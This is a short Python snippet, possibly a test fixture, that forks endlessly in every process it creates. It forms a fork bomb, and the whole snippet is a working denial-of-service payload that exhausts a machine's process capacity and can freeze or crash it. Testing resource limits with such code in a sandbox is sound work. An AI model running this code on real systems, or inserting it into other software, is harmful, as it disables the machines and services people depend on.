# fork in every process, without an end
children = 0
while True:
    try:
        if os.fork() == 0:
            children = -1 << 30
        else:
            children += 1
            if children == 1:
                print("forked", flush=True)
    except OSError:
        pass
